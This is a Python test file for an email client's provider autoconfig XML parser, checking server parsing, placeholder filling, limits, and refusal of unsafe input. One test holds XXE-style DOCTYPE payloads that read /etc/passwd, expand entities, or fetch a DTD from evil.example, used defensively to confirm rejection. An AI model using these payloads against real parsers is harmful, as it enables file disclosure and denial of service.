"""The XML of providers: what is read, and what is refused (A-95)."""

import pytest

from postwren.client.conversation import Security
from postwren.sync.autoconfig import DEEPEST, LONGEST, MOST_SERVERS, Advertised, AutoconfigInvalid, parse_autoconfig

SERVER = (
    '<incomingServer type="imap"><hostname>Mail.%EMAILDOMAIN%</hostname><port> 993\n</port><socketType>SSL</socketType>'
    "<username>%EMAILADDRESS%</username><authentication>password-cleartext</authentication></incomingServer>"
)


def document(inside: str, before: str = '<?xml version="1.0" encoding="UTF-8"?>') -> bytes:
    return f'{before}<clientConfig version="1.1"><emailProvider id="example.org">{inside}</emailProvider></clientConfig>'.encode()


def read(inside: str, before: str = "", address: str = "ann@example.org") -> tuple[Advertised, ...]:
    return parse_autoconfig(document(inside, before), address)


def test_a_server_is_read_and_its_placeholders_are_filled_in() -> None:
    assert read(f"<domain>example.org</domain><displayName>x</displayName>{SERVER}") == (
        Advertised("imap", "mail.example.org", 993, Security.IMPLICIT, "ann@example.org"),
    )


def test_what_is_filled_in_is_not_filled_in_again() -> None:
    assert read(SERVER, address="%EMAILDOMAIN%@example.org")[0].login == "%EMAILDOMAIN%@example.org"


@pytest.mark.parametrize(
    ("was", "becomes"),
    [
        ("SSL", "plain"),
        ("SSL", ""),
        ("<port> 993\n</port>", ""),
        ("993", "0"),
        ("993", "65536"),
        ("993", "9" * 400),
        ("Mail.%EMAILDOMAIN%", "127.0.0.1"),
        ("Mail.%EMAILDOMAIN%", "[::1]"),
        ("Mail.%EMAILDOMAIN%", "http://example.org"),
        ("Mail.%EMAILDOMAIN%", "mail.example.org:25"),
        ("Mail.%EMAILDOMAIN%", "mäil.example.org"),
        ("%EMAILADDRESS%", "%REALNAME%"),
        ("%EMAILADDRESS%", "a\nb"),
        ("%EMAILADDRESS%", "x" * 600),
        ('"imap"', '"exchange"'),
        ("<incomingServer", "<webMail"),
    ],
)
def test_a_server_that_cannot_be_used_or_has_no_tls_is_passed_over(was: str, becomes: str) -> None:
    bad = SERVER.replace(was, becomes).replace("</incomingServer>", "</webMail>" if "webMail" in becomes else "</incomingServer>")
    assert read(bad + SERVER) == read(SERVER)


def test_servers_elsewhere_than_in_the_provider_are_not_read() -> None:
    assert read(f"<documentation>{SERVER}</documentation>") == ()
    assert parse_autoconfig(b"<other><emailProvider>" + SERVER.encode() + b"</emailProvider></other>", "ann@example.org") == ()


@pytest.mark.parametrize(
    "before",
    [
        "<!DOCTYPE clientConfig>",
        '<!DOCTYPE x SYSTEM "file:///etc/passwd">',
        '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>',
        '<!DOCTYPE x [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]>',
        '<!DOCTYPE x [<!ENTITY host SYSTEM "file:///etc/hostname">]>',
    ],
)
def test_a95_a_document_type_is_refused_before_any_of_it_is_read(before: str) -> None:
    with pytest.raises(AutoconfigInvalid, match="document type"):
        read(SERVER.replace("993", "&b;"), before)


@pytest.mark.parametrize(
    "octets", [b"", b"<", b"<html><br></html>", b"\xff\xfe<\0a\0>\0", b"<a>\xff</a>", document("&lol;"), b"\0"]
)
def test_what_is_no_xml_is_refused(octets: bytes) -> None:
    with pytest.raises(AutoconfigInvalid):
        parse_autoconfig(octets, "ann@example.org")


def test_an_encoding_that_is_declared_does_not_choose_a_decoder() -> None:
    assert read(SERVER, '<?xml version="1.0" encoding="zlib"?>') == read(SERVER)


def test_the_limits_are_as_they_say() -> None:
    filler = len(document(SERVER + "<!---->"))
    assert read(SERVER + f"<!--{'x' * (LONGEST - filler)}-->", '<?xml version="1.0" encoding="UTF-8"?>')
    with pytest.raises(AutoconfigInvalid, match="too long"):
        read(SERVER + f"<!--{'x' * (LONGEST - filler + 1)}-->", '<?xml version="1.0" encoding="UTF-8"?>')
    depth = DEEPEST - 2
    assert read("<a>" * depth + "</a>" * depth + SERVER)
    with pytest.raises(AutoconfigInvalid, match="nested"):
        read("<a>" * (depth + 1) + "</a>" * (depth + 1) + SERVER)
    assert len(read(SERVER * MOST_SERVERS)) == MOST_SERVERS
    with pytest.raises(AutoconfigInvalid, match="too many"):
        read(SERVER * (MOST_SERVERS + 1))
